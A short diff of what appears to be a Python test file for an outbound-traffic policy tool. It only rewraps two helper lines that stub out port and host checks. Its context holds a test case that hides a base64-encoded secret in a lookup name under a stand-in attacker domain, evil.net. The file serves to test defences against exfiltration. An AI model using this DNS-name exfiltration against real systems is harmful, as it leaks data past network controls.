@@ -30,7 +30,9 @@ if TYPE_CHECKING:
 
 LIST: Final = Listed(as_root="anybody")
 
-ANY_PORT: Final = patched("the list of ports", unspill__policy__hosts__AllowedHost__covers_port=lambda _rule, _port: True)
+ANY_PORT: Final = patched(
+    "the list of ports", unspill__policy__hosts__AllowedHost__covers_port=lambda _rule, _port: True
+)
 
 
 def on_port(port: int) -> Callable[[Arena], object]:
@@ -223,7 +225,9 @@ def looked_up(ask: Callable[[Scene], object]) -> Callable[[Arena], object]:
     return attack
 
 
-ANY_HOST: Final = patched("the rules of hosts", unspill__policy__hosts__HostRules__judge=lambda _rules, _destination: None)
+ANY_HOST: Final = patched(
+    "the rules of hosts", unspill__policy__hosts__HostRules__judge=lambda _rules, _destination: None
+)
 SECRET: Final = "c2VjcmV0.evil.net"
 for _tries, _ask in {
     "Tell a secret in a name that is looked up for a tunnel": lambda stage: by_connect(stage, f"{SECRET}:443"),
